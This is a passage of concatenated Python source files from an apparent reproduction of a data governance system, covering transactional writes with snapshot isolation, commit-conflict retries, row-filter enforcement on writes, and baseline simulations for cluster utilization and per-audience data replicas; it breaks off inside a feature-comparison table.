        elif isinstance(op, UpdateOp):
            rows = _apply_update(rows, staged, op, eval_ctx)
        elif isinstance(op, DeleteOp):
            rows = _apply_delete(rows, staged, op, eval_ctx)
        elif isinstance(op, MergeOp):
            rows = _apply_merge(rows, staged, op, eval_ctx)
        else:  # pragma: no cover - op union is closed
            raise TransactionAbortedError(f"unknown write op {type(op).__name__}")
    return _as_columns(rows, names)


def _predicate_mask(
    rows: list[list],
    schema: Schema,
    where: Expression | None,
    eval_ctx: EvalContext,
) -> list[bool]:
    if where is None or not rows:
        return [True] * len(rows)
    batch = ColumnBatch.from_rows(schema, rows)
    return [bool(v) for v in _eval(where, batch, eval_ctx)]


def _apply_update(
    rows: list[list], staged: StagedWrite, op: UpdateOp, eval_ctx: EvalContext
) -> list[list]:
    if not rows:
        return rows
    visible = _visible(rows, staged.schema, staged.row_filter, eval_ctx)
    matches = _predicate_mask(rows, staged.schema, op.where, eval_ctx)
    batch = ColumnBatch.from_rows(staged.schema, rows)
    new_values = {
        staged.schema.field_index(col): _eval(expr, batch, eval_ctx)
        for col, expr in op.assignments.items()
    }
    for i, row in enumerate(rows):
        if visible[i] and matches[i]:
            for index, values in new_values.items():
                row[index] = values[i]
    return rows


def _apply_delete(
    rows: list[list], staged: StagedWrite, op: DeleteOp, eval_ctx: EvalContext
) -> list[list]:
    if not rows:
        return rows
    visible = _visible(rows, staged.schema, staged.row_filter, eval_ctx)
    matches = _predicate_mask(rows, staged.schema, op.where, eval_ctx)
    return [row for i, row in enumerate(rows) if not (visible[i] and matches[i])]


def _apply_merge(
    rows: list[list], staged: StagedWrite, op: MergeOp, eval_ctx: EvalContext
) -> list[list]:
    source_names = list(op.source_schema.names)
    source_rows = _as_rows(op.source_columns, source_names)
    visible = _visible(rows, staged.schema, staged.row_filter, eval_ctx)
    combined_fields = tuple(staged.schema.fields) + tuple(op.source_schema.fields)
    combined = Schema(combined_fields)

    # For each source row: evaluate ON over (every target row) x (this
    # source row) in one batch — m evaluations of n-row batches instead of
    # an n*m cross product held in memory at once.
    matched_by_target: dict[int, int] = {}
    matched_sources: set[int] = set()
    for j, srow in enumerate(source_rows):
        if not rows:
            break
        combined_rows = [row + srow for row in rows]
        batch = ColumnBatch.from_rows(combined, combined_rows)
        hits = _eval(op.on, batch, eval_ctx)
        for i, hit in enumerate(hits):
            if not (visible[i] and bool(hit)):
                continue
            if i in matched_by_target:
                raise TransactionAbortedError(
                    f"MERGE into '{staged.table}': target row matched by "
                    "multiple source rows (ambiguous matched-clause result)"
                )
            matched_by_target[i] = j
            matched_sources.add(j)

    out: list[list] = []
    for i, row in enumerate(rows):
        j = matched_by_target.get(i)
        if j is None:
            out.append(row)
            continue
        if op.matched_delete:
            continue
        if op.matched_assignments is not None:
            combined_row = row + source_rows[j]
            batch = ColumnBatch.from_rows(combined, [combined_row])
            new_row = list(row)
            for col, expr in op.matched_assignments.items():
                index = staged.schema.field_index(col)
                new_row[index] = _eval(expr, batch, eval_ctx)[0]
            out.append(new_row)
        else:
            out.append(row)

    if op.insert_values is not None:
        for j, srow in enumerate(source_rows):
            if j in matched_sources:
                continue
            batch = ColumnBatch.from_rows(op.source_schema, [srow])
            out.append([_eval(e, batch, eval_ctx)[0] for e in op.insert_values])
    return out


def eval_context_for(ctx: UserContext) -> EvalContext:
    """Policy-evaluation context for a writer (mirrors the read pipeline)."""
    return EvalContext(user=ctx.user, groups=frozenset(ctx.groups))


def combined_schema(target: Schema, source: Schema) -> Schema:
    """Target fields followed by source fields (MERGE binding layout)."""
    return Schema(tuple(target.fields) + tuple(source.fields))


def qualified_schema(schema: Schema, qualifier: str | None) -> Schema:
    """Re-qualify every field (so ``alias.col`` binds in MERGE clauses)."""
    if qualifier is None:
        return schema
    return Schema(tuple(Field(f.name, f.dtype, f.nullable, qualifier)
                        for f in schema.fields))
