"""ACID governed write path: transactions, atomic commits, crash recovery.

See :mod:`repro.txn.manager` for the commit protocol and
:mod:`repro.txn.writes` for write-side FGAC and materialization.
"""

from repro.txn.manager import (
    TXN_CONFLICT_RETRIES,
    TXN_FAULT_RETRIES,
    Transaction,
    TransactionManager,
)
from repro.txn.writes import (
    DeleteOp,
    InsertOp,
    MergeOp,
    StagedWrite,
    UpdateOp,
    apply_ops,
    bind_expression,
    check_write,
)

__all__ = [
    "TXN_CONFLICT_RETRIES",
    "TXN_FAULT_RETRIES",
    "Transaction",
    "TransactionManager",
    "DeleteOp",
    "InsertOp",
    "MergeOp",
    "StagedWrite",
    "UpdateOp",
    "apply_ops",
    "bind_expression",
    "check_write",
]
