"""Multi-statement transactions with snapshot isolation over governed tables.

The transaction tier sits between the SQL write statements and the table
format's atomic commit primitive:

- **Snapshot isolation.** A transaction pins each table's durable version at
  first touch (read or write); every read inside the transaction resolves at
  the pin, and commit-time conflict detection compares the pin against the
  live tip.
- **Optimistic concurrency.** Statements stage :mod:`~repro.txn.writes` ops
  without touching storage. At commit, each table's ops are materialized
  into new data files and published with one atomic
  :meth:`~repro.storage.table_format.LakeTableStorage.commit_version` call.
  A *read-dependent* transaction (UPDATE/DELETE/MERGE) whose table advanced
  past its pin aborts with :class:`~repro.errors.CommitConflictError`;
  blind inserts are position-independent and rebase onto the new tip.
- **Bounded conflict retry.** :meth:`TransactionManager.run` re-runs the
  whole transaction body under jittered exponential backoff when the commit
  loses a race — the caller's read-modify-write is re-executed against the
  new snapshot, which is the only sound way to retry a read-dependent
  transaction.
- **Chaos points.** ``txn.conflict_check`` / ``txn.write_file`` /
  ``txn.commit`` fire *before* their step touches state, so the bounded
  fault-absorbing retries around each step can re-run it safely; an
  injected fault never changes what commits.

Caches learn about transactional writes only at commit:
``bump_data_epoch`` is called once per committed transaction, never for
aborted ones — an abort is invisible to every cache tier.

Known gap (documented in DESIGN.md): a transaction touching several tables
commits them one at a time; atomicity is per table, as in Delta Lake.
"""

from __future__ import annotations

import threading
from typing import Any, Callable, TYPE_CHECKING

from repro.catalog.privileges import MODIFY, UserContext
from repro.common.ids import sequential_id
from repro.engine.expressions import Expression
from repro.engine.types import Schema
from repro.errors import (
    AnalysisError,
    CommitConflictError,
    FaultInjectedError,
    RetryableError,
    SecurableNotFound,
    StorageError,
    TransactionAbortedError,
    TransientStorageError,
)
from repro.scheduler.circuit_breaker import retry_with_backoff
from repro.storage.credentials import DELETE, LIST, READ, WRITE
from repro.txn.writes import (
    DeleteOp,
    InsertOp,
    MergeOp,
    StagedWrite,
    UpdateOp,
    apply_ops,
    bind_expression,
    bound_row_filter,
    check_write,
    combined_schema,
    eval_context_for,
    qualified_schema,
    referenced_columns,
)

if TYPE_CHECKING:
    from repro.catalog.metastore import UnityCatalog
    from repro.storage.table_format import LakeTableStorage

#: Bounded retries absorbing injected/transient faults around each commit
#: step (conflict check, file staging, the commit itself).
TXN_FAULT_RETRIES = 4

#: Bounded whole-transaction re-runs after a lost commit race
#: (:meth:`TransactionManager.run`).
TXN_CONFLICT_RETRIES = 6

#: Base backoff delay for both retry ladders (jittered, exponential).
TXN_RETRY_BASE = 0.01


class TransactionManager:
    """Factory and statistics hub for governed transactions."""

    def __init__(self, catalog: "UnityCatalog"):
        self._catalog = catalog
        self._lock = threading.Lock()
        self._counters: dict[str, int] = {
            "begun": 0,
            "committed": 0,
            "aborted": 0,
            "conflicts": 0,
            "retries": 0,
            "files_staged": 0,
            "files_discarded": 0,
            "recovered_commits": 0,
            "orphans_swept": 0,
        }
        catalog.register_txn_stats_provider("txn[manager]", self.stats_snapshot)

    # -- lifecycle ------------------------------------------------------------

    def begin(self, ctx: UserContext) -> "Transaction":
        """Open a transaction acting as ``ctx``."""
        self._count("begun")
        return Transaction(self, self._catalog, ctx)

    def run(
        self,
        ctx: UserContext,
        body: Callable[["Transaction"], Any],
        seed: int = 0,
        retries: int = TXN_CONFLICT_RETRIES,
    ) -> Any:
        """Run ``body(txn)`` in a fresh transaction, committing on return.

        On :class:`~repro.errors.CommitConflictError` the *whole body* is
        re-executed in a new transaction against the fresh snapshot, under
        jittered exponential backoff (``seed`` decorrelates concurrent
        agents). Any other exception rolls back and propagates.
        """

        def attempt() -> Any:
            txn = self.begin(ctx)
            try:
                result = body(txn)
            except BaseException:
                if txn.state == "open":
                    txn.rollback()
                raise
            if txn.state == "open":
                txn.commit()
            return result

        return retry_with_backoff(
            attempt,
            clock=self._catalog.clock,
            retries=retries,
            base_delay=TXN_RETRY_BASE,
            seed=seed,
            retry_on=(CommitConflictError,),
        )

    def recover_table(self, ctx: UserContext, full_name: str) -> dict[str, int]:
        """Roll back torn commits and sweep orphaned files of one table.

        Requires MODIFY (recovery rewrites the log). Bumps the data epoch
        when anything was repaired, since the visible tip may have moved.
        """
        table = self._catalog.get_table(full_name)
        self._catalog.check_privilege(ctx, MODIFY, full_name)
        credential = self._catalog.vendor.issue(
            identity=ctx.user,
            prefixes=[table.storage_root],
            operations={READ, WRITE, LIST, DELETE},
        )
        try:
            report = self._catalog.table_storage(table).recover(credential)
        finally:
            self._catalog.vendor.revoke(credential.token)
        self._count("recovered_commits", report["torn_commits_rolled_back"])
        self._count("orphans_swept", report["orphan_files_swept"])
        if any(report.values()):
            self._catalog.bump_data_epoch("txn-recover")
        return report

    # -- statistics -----------------------------------------------------------

    def _count(self, name: str, n: int = 1) -> None:
        if n:
            with self._lock:
                self._counters[name] = self._counters.get(name, 0) + n

    def stats_snapshot(self) -> dict[str, Any]:
        """Flat counters for ``system.access.txn_stats``."""
        with self._lock:
            return dict(self._counters)


class Transaction:
    """One open multi-statement transaction (snapshot-isolated, optimistic)."""

    def __init__(
        self, manager: TransactionManager, catalog: "UnityCatalog", ctx: UserContext
    ):
        self._manager = manager
        self._catalog = catalog
        self.ctx = ctx
        self.txn_id = sequential_id("txn")
        self.state = "open"
        #: Table name -> durable version pinned at first touch.
        self._pins: dict[str, int] = {}
        self._staged: dict[str, StagedWrite] = {}

    # -- snapshot pinning -----------------------------------------------------

    def pin_for_read(self, full_name: str) -> int | None:
        """Snapshot version reads of ``full_name`` must resolve at.

        Returns ``None`` for anything that is not a managed table (views
        and system tables have no version to pin). Used by the resolver's
        ``version_pin`` hook so SELECTs inside the transaction see the
        pinned snapshot — and so a later write conflict-checks against the
        version the reads actually saw.
        """
        if self.state != "open":
            return None
        try:
            self._catalog.get_table(full_name)
        except SecurableNotFound:
            return None
        return self._pin(full_name)

    def _pin(self, full_name: str) -> int:
        if full_name not in self._pins:
            self._pins[full_name] = self._catalog.current_table_version(full_name)
        return self._pins[full_name]

    # -- statement staging ----------------------------------------------------

    def _require_open(self) -> None:
        if self.state != "open":
            raise TransactionAbortedError(
                f"transaction {self.txn_id} is {self.state}; "
                "begin a new transaction"
            )

    def _staged_for(self, full_name: str) -> StagedWrite:
        if full_name not in self._staged:
            table = self._catalog.get_table(full_name)
            self._staged[full_name] = StagedWrite(
                table=full_name,
                schema=table.schema,
                row_filter=bound_row_filter(self._catalog, full_name, table.schema),
            )
        self._pin(full_name)
        return self._staged[full_name]

    def insert(self, full_name: str, rows: list[tuple]) -> int:
        """Stage literal rows (in table column order) for appending."""
        self._require_open()
        check_write(self._catalog, self.ctx, full_name, reads_rows=False)
        staged = self._staged_for(full_name)
        width = len(staged.schema)
        for row in rows:
            if len(row) != width:
                raise AnalysisError(
                    f"INSERT into '{full_name}': row has {len(row)} values "
                    f"but the table has {width} columns"
                )
        staged.ops.append(InsertOp(rows=[tuple(r) for r in rows]))
        return len(rows)

    def update(
        self,
        full_name: str,
        assignments: dict[str, Expression],
        where: Expression | None,
    ) -> None:
        """Stage ``SET col = expr`` over visible rows matching ``where``."""
        self._require_open()
        staged = self._staged_for_read_write(full_name)
        schema = staged.schema
        assigned = self._validate_assignment_targets(full_name, schema, assignments)
        referenced: set[str] = referenced_columns(where, schema)
        for expr in assignments.values():
            referenced |= referenced_columns(expr, schema)
        check_write(
            self._catalog, self.ctx, full_name,
            reads_rows=True, assigned=assigned, referenced=referenced,
        )
        staged.ops.append(
            UpdateOp(
                assignments={
                    col: bind_expression(expr, schema)
                    for col, expr in assignments.items()
                },
                where=None if where is None else bind_expression(where, schema),
            )
        )

    def delete(self, full_name: str, where: Expression | None) -> None:
        """Stage removal of visible rows matching ``where``."""
        self._require_open()
        staged = self._staged_for_read_write(full_name)
        check_write(
            self._catalog, self.ctx, full_name,
            reads_rows=True,
            referenced=referenced_columns(where, staged.schema),
        )
        staged.ops.append(
            DeleteOp(
                where=None if where is None
                else bind_expression(where, staged.schema)
            )
        )

    def merge(
        self,
        full_name: str,
        target_alias: str | None,
        source_schema: Schema,
        source_columns: dict[str, list],
        source_alias: str | None,
        on: Expression,
        matched_assignments: dict[str, Expression] | None,
        matched_delete: bool,
        insert_values: list[Expression] | None,
    ) -> None:
        """Stage a MERGE of an already-materialized source relation.

        The source rows arrive pre-materialized through the governed read
        pipeline (full SELECT enforcement applied), so this only has to
        govern the *target* side. Mask checking is conservative: any
        expression in ON or a matched clause whose bare column name is a
        masked target column is refused, even if it syntactically
        referenced the source side.
        """
        self._require_open()
        staged = self._staged_for_read_write(full_name)
        schema = staged.schema
        assigned: set[str] = set()
        referenced = referenced_columns(on, schema)
        if matched_assignments is not None:
            assigned = self._validate_assignment_targets(
                full_name, schema, matched_assignments
            )
            for expr in matched_assignments.values():
                referenced |= referenced_columns(expr, schema)
        check_write(
            self._catalog, self.ctx, full_name,
            reads_rows=True, assigned=assigned, referenced=referenced,
        )
        if insert_values is not None and len(insert_values) != len(schema):
            raise AnalysisError(
                f"MERGE into '{full_name}': NOT MATCHED INSERT has "
                f"{len(insert_values)} values but the table has "
                f"{len(schema)} columns"
            )
        combined = combined_schema(
            qualified_schema(schema, target_alias),
            qualified_schema(source_schema, source_alias),
        )
        qualified_source = qualified_schema(source_schema, source_alias)
        staged.ops.append(
            MergeOp(
                source_schema=source_schema,
                source_columns=source_columns,
                on=bind_expression(on, combined),
                matched_assignments=None if matched_assignments is None else {
                    col: bind_expression(expr, combined)
                    for col, expr in matched_assignments.items()
                },
                matched_delete=matched_delete,
                insert_values=None if insert_values is None else [
                    bind_expression(expr, qualified_source)
                    for expr in insert_values
                ],
            )
        )

    def _staged_for_read_write(self, full_name: str) -> StagedWrite:
        # Pin *before* the governance checks run so a conflict detected at
        # commit reflects the version this statement actually reasoned
        # about.
        return self._staged_for(full_name)

    @staticmethod
    def _validate_assignment_targets(
        full_name: str, schema: Schema, assignments: dict[str, Expression]
    ) -> set[str]:
        assigned: set[str] = set()
        for col in assignments:
            bare = col.rpartition(".")[2]
            if not schema.contains(bare):
                raise AnalysisError(
                    f"'{full_name}' has no column '{col}' to assign; "
                    f"columns: {schema.names}"
                )
            assigned.add(bare)
        return assigned

    # -- terminal states ------------------------------------------------------

    def rollback(self) -> None:
        """Discard every staged op; nothing was ever durable."""
        self._require_open()
        self.state = "aborted"
        self._staged.clear()
        self._manager._count("aborted")

    def commit(self) -> None:
        """Publish every staged table atomically (one commit per table).

        Raises :class:`~repro.errors.CommitConflictError` when a
        read-dependent table advanced past its pin (retryable — re-run the
        transaction body), or :class:`~repro.errors.TransactionAbortedError`
        for any other failure. Either way the transaction is closed and its
        staged files are garbage.
        """
        self._require_open()
        committed = 0
        try:
            for name in sorted(self._staged):
                staged = self._staged[name]
                if staged.ops:
                    self._commit_table(name, staged)
                    committed += 1
            self.state = "committed"
            self._manager._count("committed")
        except CommitConflictError:
            self.state = "aborted"
            self._manager._count("aborted")
            self._manager._count("conflicts")
            raise
        except TransactionAbortedError:
            self.state = "aborted"
            self._manager._count("aborted")
            raise
        except Exception as exc:
            self.state = "aborted"
            self._manager._count("aborted")
            raise TransactionAbortedError(
                f"transaction {self.txn_id} failed to commit: "
                f"{type(exc).__name__}: {exc}"
            ) from exc
        finally:
            if committed:
                # Caches must learn about *any* table that committed, even
                # when a later table in the same transaction aborted.
                self._catalog.bump_data_epoch("txn-commit")

    # -- commit protocol ------------------------------------------------------

    def _commit_table(self, full_name: str, staged: StagedWrite) -> None:
        table = self._catalog.get_table(full_name)
        pin = self._pins[full_name]
        credential = self._catalog.vendor.issue(
            identity=self.ctx.user,
            prefixes=[table.storage_root],
            operations={READ, WRITE, LIST, DELETE},
        )
        storage = self._catalog.table_storage(table)
        staged_paths: list[str] = []
        try:
            if staged.read_dependent:
                self._commit_read_dependent(
                    storage, staged, pin, credential, staged_paths
                )
            else:
                self._commit_blind_insert(
                    storage, staged, credential, staged_paths
                )
        except BaseException:
            for path in staged_paths:
                try:
                    self._catalog.store.delete(path, credential)
                    self._manager._count("files_discarded")
                except StorageError:
                    pass  # best effort; recover() sweeps what remains
            raise
        finally:
            self._catalog.vendor.revoke(credential.token)

    def _commit_read_dependent(
        self,
        storage: "LakeTableStorage",
        staged: StagedWrite,
        pin: int,
        credential: Any,
        staged_paths: list[str],
    ) -> None:
        base = self._absorb(
            lambda: storage.read_all(credential, version=pin),
            retry_on=(RetryableError,),
        )
        snapshot = self._absorb(
            lambda: storage.snapshot(credential, version=pin),
            retry_on=(RetryableError,),
        )
        result = apply_ops(base, staged, eval_context_for(self.ctx))
        data_file = self._stage_file(storage, result, credential, staged_paths)

        def attempt() -> None:
            self._fire("txn.conflict_check")
            # Compare against the *durable* tip: a torn claimant left by a
            # crashed writer at pin+1 is not a committed version — the
            # commit below rolls it back inline rather than conflicting.
            latest = storage.snapshot(credential).version
            if latest != pin:
                raise CommitConflictError(
                    f"write-write conflict on '{staged.table}': transaction "
                    f"{self.txn_id} pinned version {pin} but the table is "
                    f"now at {latest}"
                )
            self._fire("txn.commit")
            actions = [{"remove": f.path} for f in snapshot.files]
            actions.append(
                {"add": data_file.path, "rows": data_file.num_rows,
                 "bytes": data_file.size_bytes}
            )
            storage.commit_version(
                pin + 1, actions, list(staged.schema.names), credential
            )

        # Injected faults are absorbed; a genuine conflict passes through
        # and aborts the transaction (only re-running the body can fix it).
        self._absorb(attempt)
        staged_paths.clear()

    def _commit_blind_insert(
        self,
        storage: "LakeTableStorage",
        staged: StagedWrite,
        credential: Any,
        staged_paths: list[str],
    ) -> None:
        names = list(staged.schema.names)
        rows: list[tuple] = []
        for op in staged.ops:
            assert isinstance(op, InsertOp)
            rows.extend(op.rows)
        columns = {n: [row[i] for row in rows] for i, n in enumerate(names)}
        data_file = self._stage_file(storage, columns, credential, staged_paths)

        def attempt() -> None:
            self._fire("txn.conflict_check")
            # Durable tip, not the raw log listing: appending past a torn
            # claimant would bury unreadable garbage mid-log forever.
            latest = storage.snapshot(credential).version
            self._fire("txn.commit")
            storage.commit_version(
                latest + 1,
                [{"add": data_file.path, "rows": data_file.num_rows,
                  "bytes": data_file.size_bytes}],
                names,
                credential,
            )

        # Appends are position-independent: losing the race to version N
        # just means claiming N+1, so conflicts rebase here too.
        self._absorb(
            attempt,
            retry_on=(FaultInjectedError, TransientStorageError,
                      CommitConflictError),
        )
        staged_paths.clear()

    def _stage_file(
        self,
        storage: "LakeTableStorage",
        columns: dict[str, list],
        credential: Any,
        staged_paths: list[str],
    ) -> Any:
        def write() -> Any:
            self._fire("txn.write_file")
            return storage.stage_data_file(columns, credential)

        data_file = self._absorb(write)
        staged_paths.append(data_file.path)
        self._manager._count("files_staged")
        return data_file

    def _fire(self, point: str) -> None:
        faults = self._catalog.faults
        if faults is not None:
            faults.fire(point)

    def _absorb(
        self,
        fn: Callable[[], Any],
        retry_on: tuple[type[BaseException], ...] = (
            FaultInjectedError,
            TransientStorageError,
        ),
    ) -> Any:
        """Run one commit step, absorbing transient faults with backoff."""
        calls = {"n": 0}

        def wrapped() -> Any:
            calls["n"] += 1
            return fn()

        try:
            return retry_with_backoff(
                wrapped,
                clock=self._catalog.clock,
                retries=TXN_FAULT_RETRIES,
                base_delay=TXN_RETRY_BASE,
                retry_on=retry_on,
            )
        finally:
            if calls["n"] > 1:
                self._manager._count("retries", calls["n"] - 1)
