"""LakeFormation-style external filtering baseline (§7, Table 1).

AWS LakeFormation's data filtering "only supports simple scans and
expressions": the external service can apply row/column filters but cannot
execute aggregations, joins, limits, or views. Everything beyond a filtered
scan ships rows back to the requesting engine.

Because our eFGAC machinery is rule-driven, the baseline is simply the same
RemoteScan pipeline with the aggregate and limit pushdown rules removed —
so benchmarks can compare rows/bytes shipped under identical queries.
"""

from __future__ import annotations

from typing import Any

from repro.core.efgac import (
    PushFilterIntoRemoteScan,
    PushProjectIntoRemoteScan,
)


def external_filter_rules() -> list[Any]:
    """Pushdown rules available to a scans-only external filtering service."""
    return [
        PushFilterIntoRemoteScan(),
        PushProjectIntoRemoteScan(),
        # No PushPartialAggIntoRemoteScan, no PushLimitIntoRemoteScan:
        # aggregations and limits run on the origin over shipped rows.
    ]
