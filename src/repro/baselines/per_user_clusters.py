"""Per-user cluster utilization baseline (§2.5, §2.6 choice 2).

Interactive users are bursty: a notebook session holds a cluster for hours
while issuing seconds of actual compute. With per-user clusters every
session pays for its own idle capacity; Lakeguard's multi-user Standard
cluster packs sessions onto shared nodes.

The simulation places interactive sessions (attach time, detach time, busy
fraction) onto either fleet and reports node-hours and utilization.
"""

from __future__ import annotations

import math
from dataclasses import dataclass


@dataclass(frozen=True)
class InteractiveSession:
    """One user's interactive attachment to compute."""

    user: str
    start: float
    end: float
    #: Fraction of attached time actually consuming compute.
    busy_fraction: float

    @property
    def duration(self) -> float:
        return self.end - self.start

    @property
    def busy_time(self) -> float:
        return self.duration * self.busy_fraction


@dataclass(frozen=True)
class FleetOutcome:
    """Aggregate cost of serving a user population on one fleet model."""

    node_hours: float
    busy_node_hours: float
    peak_nodes: int

    @property
    def utilization(self) -> float:
        return self.busy_node_hours / self.node_hours if self.node_hours else 0.0


def simulate_per_user_clusters(
    sessions: list[InteractiveSession], nodes_per_cluster: int = 2
) -> FleetOutcome:
    """Each session provisions its own cluster for its whole duration."""
    node_hours = sum(s.duration * nodes_per_cluster for s in sessions)
    busy = sum(s.busy_time * nodes_per_cluster for s in sessions)
    peak = _peak_concurrency(sessions) * nodes_per_cluster
    return FleetOutcome(node_hours, busy, peak)


def simulate_shared_cluster(
    sessions: list[InteractiveSession],
    sessions_per_node: int = 4,
    min_nodes: int = 1,
) -> FleetOutcome:
    """One multi-user cluster autoscaled to concurrent-session demand."""
    if not sessions:
        return FleetOutcome(0.0, 0.0, 0)
    events = sorted(
        [(s.start, 1) for s in sessions] + [(s.end, -1) for s in sessions]
    )
    node_hours = 0.0
    peak_nodes = min_nodes
    concurrent = 0
    last_time = events[0][0]
    for time, delta in events:
        nodes = max(min_nodes, math.ceil(concurrent / sessions_per_node))
        node_hours += nodes * (time - last_time)
        peak_nodes = max(peak_nodes, nodes)
        concurrent += delta
        last_time = time
    busy = sum(s.busy_time for s in sessions)
    return FleetOutcome(node_hours, busy, peak_nodes)


def _peak_concurrency(sessions: list[InteractiveSession]) -> int:
    events = sorted(
        [(s.start, 1) for s in sessions] + [(s.end, -1) for s in sessions]
    )
    peak = current = 0
    for _, delta in events:
        current += delta
        peak = max(peak, current)
    return peak


def working_day_sessions(
    num_users: int,
    day_hours: float = 8.0,
    session_hours: float = 4.0,
    busy_fraction: float = 0.15,
) -> list[InteractiveSession]:
    """A deterministic staggered working-day workload."""
    sessions = []
    for i in range(num_users):
        offset = (i / max(1, num_users)) * (day_hours - session_hours)
        sessions.append(
            InteractiveSession(
                user=f"user{i}",
                start=offset,
                end=offset + session_hours,
                busy_fraction=busy_fraction,
            )
        )
    return sessions
