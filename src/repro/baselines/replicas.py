"""The data-replica governance baseline (§2.2).

Before catalog-enforced FGAC, the common practice was to copy a table once
per audience with the sensitive rows/columns removed, and grant each
audience a dedicated cluster with credentials for its replica. This module
*actually builds* those replicas through the engine, so the costs the paper
lists — storage amplification, refresh compute, staleness — are measured,
not asserted.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from repro.catalog.metastore import UnityCatalog
from repro.connect.client import SparkConnectClient
from repro.platform.clusters import StandardCluster


@dataclass
class ReplicaCosts:
    """Measured costs of the replica approach for one source table."""

    source_bytes: int
    replica_bytes_total: int
    replicas: int
    refresh_rows_processed: int
    #: Versions the source advanced past the replicas (staleness proxy).
    stale_replicas: int

    @property
    def storage_amplification(self) -> float:
        if self.source_bytes == 0:
            return 0.0
        return (self.source_bytes + self.replica_bytes_total) / self.source_bytes


@dataclass
class ReplicaGovernance:
    """Maintains per-audience filtered replicas of one source table."""

    cluster: StandardCluster
    admin_client: SparkConnectClient
    source_table: str
    #: audience name -> SQL predicate string defining its visible subset.
    audience_filters: dict[str, str]
    _replica_versions: dict[str, int] = field(default_factory=dict)
    _refresh_rows: int = field(default=0)

    @property
    def catalog(self) -> UnityCatalog:
        return self.cluster.catalog

    def replica_name(self, audience: str) -> str:
        catalog_part, schema_part, table_part = self.source_table.split(".")
        return f"{catalog_part}.{schema_part}.{table_part}__for_{audience}"

    # -- lifecycle ---------------------------------------------------------------

    def create_replicas(self) -> None:
        source = self.catalog.get_table(self.source_table)
        for audience in self.audience_filters:
            name = self.replica_name(audience)
            if not self.catalog.object_exists(name):
                self.catalog.create_table(name, source.schema, owner="admin")
        self.refresh_all()

    def refresh_all(self) -> int:
        """Recompute every replica from the current source; returns rows."""
        total = 0
        for audience, predicate in self.audience_filters.items():
            total += self._refresh_one(audience, predicate)
        source_version = self._source_version()
        for audience in self.audience_filters:
            self._replica_versions[audience] = source_version
        return total

    def _refresh_one(self, audience: str, predicate: str) -> int:
        df = self.admin_client.sql(
            f"SELECT * FROM {self.source_table} WHERE {predicate}"
        )
        data = df.to_dict()
        rows = len(next(iter(data.values()), []))
        # Strip qualifiers the query added.
        clean = {name.split(".")[-1]: values for name, values in data.items()}
        admin_ctx = self.catalog.principals.context_for(self.admin_client.user)
        self.catalog.write_table(
            self.replica_name(audience), clean, admin_ctx, overwrite=True
        )
        self._refresh_rows += rows
        return rows

    # -- measurement ---------------------------------------------------------------

    def _source_version(self) -> int:
        table = self.catalog.get_table(self.source_table)
        storage = self.catalog.table_storage(table)
        return storage.latest_version(self.catalog._service_credential)

    def measure(self) -> ReplicaCosts:
        """Snapshot the current storage/staleness costs of all replicas."""
        source = self.catalog.get_table(self.source_table)
        source_bytes = self.catalog.store.total_bytes(source.storage_root)
        replica_bytes = 0
        stale = 0
        current = self._source_version()
        for audience in self.audience_filters:
            replica = self.catalog.get_table(self.replica_name(audience))
            replica_bytes += self.catalog.store.total_bytes(replica.storage_root)
            if self._replica_versions.get(audience, -1) < current:
                stale += 1
        return ReplicaCosts(
            source_bytes=source_bytes,
            replica_bytes_total=replica_bytes,
            replicas=len(self.audience_filters),
            refresh_rows_processed=self._refresh_rows,
            stale_replicas=stale,
        )
