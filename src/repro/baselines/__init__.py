"""Executable baselines the paper compares against (Table 1, §7, §2.2).

- :mod:`repro.baselines.membrane` — AWS EMR Membrane: a cluster statically
  split into a trusted domain and a user-code domain, single-user only.
- :mod:`repro.baselines.external_filter` — AWS LakeFormation-style data
  filtering: only scans/filters/projections execute externally; everything
  else ships rows back.
- :mod:`repro.baselines.replicas` — the legacy "copy the data per audience"
  approach, with measured storage amplification and staleness.
- :mod:`repro.baselines.per_user_clusters` — one cluster per user:
  the utilization/cost model Lakeguard's multi-user compute replaces.
"""

from repro.baselines.membrane import MembraneClusterModel, WorkloadPhase
from repro.baselines.external_filter import external_filter_rules
from repro.baselines.replicas import ReplicaGovernance
from repro.baselines.per_user_clusters import (
    InteractiveSession,
    simulate_per_user_clusters,
    simulate_shared_cluster,
)

__all__ = [
    "MembraneClusterModel",
    "WorkloadPhase",
    "external_filter_rules",
    "ReplicaGovernance",
    "InteractiveSession",
    "simulate_per_user_clusters",
    "simulate_shared_cluster",
]
