"""Table 1: the governance feature matrix, regenerated.

The Lakeguard column is produced by *live probes* — each capability is
demonstrated by running the actual code path in this library and observing
the outcome. Competitor columns are coded from the paper's Table 1 (they are
closed systems we cannot execute).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

from repro.errors import LakeguardError

YES = "yes"
NO = "no"

#: Row keys, in the paper's order.
FEATURES = [
    "unified_policies_dw_and_ds",
    "catalog_udfs",
    "single_user_languages",
    "multi_user_languages",
    "row_filter",
    "column_masks",
    "views",
    "materialized_views",
    "external_filtering",
]

FEATURE_LABELS = {
    "unified_policies_dw_and_ds": "Unified Policies for DW and DS/DE",
    "catalog_udfs": "Catalog UDFs",
    "single_user_languages": "Single User languages",
    "multi_user_languages": "Multi-User languages",
    "row_filter": "Row-Filter",
    "column_masks": "Column-Masks",
    "views": "Views",
    "materialized_views": "Materialized Views",
    "external_filtering": "External Filtering",
}

#: Competitor columns, coded verbatim from the paper's Table 1.
PAPER_COMPETITORS: dict[str, dict[str, str]] = {
    "AWS EMR Membrane": {
        "unified_policies_dw_and_ds": NO,
        "catalog_udfs": NO,
        "single_user_languages": "SQL, Python, Scala, R",
        "multi_user_languages": NO,
        "row_filter": YES,
        "column_masks": YES,
        "views": YES,
        "materialized_views": NO,
        "external_filtering": NO,
    },
    "AWS Lake Formation": {
        "unified_policies_dw_and_ds": NO,
        "catalog_udfs": NO,
        "single_user_languages": "n/a",
        "multi_user_languages": "n/a",
        "row_filter": YES,
        "column_masks": YES,
        "views": NO,
        "materialized_views": NO,
        "external_filtering": YES,
    },
    "Microsoft Fabric OneLake (Spark)": {
        "unified_policies_dw_and_ds": "DWH only",
        "catalog_udfs": NO,
        "single_user_languages": "SQL, Python, Scala, R",
        "multi_user_languages": "SQL (DWH only)",
        "row_filter": NO,
        "column_masks": NO,
        "views": YES,
        "materialized_views": NO,
        "external_filtering": NO,
    },
    "Google Dataproc with BigLake": {
        "unified_policies_dw_and_ds": YES,
        "catalog_udfs": "BigQuery Spark Stored Procedures",
        "single_user_languages": "SQL, Python, Scala, R",
        "multi_user_languages": NO,
        "row_filter": YES,
        "column_masks": YES,
        "views": NO,
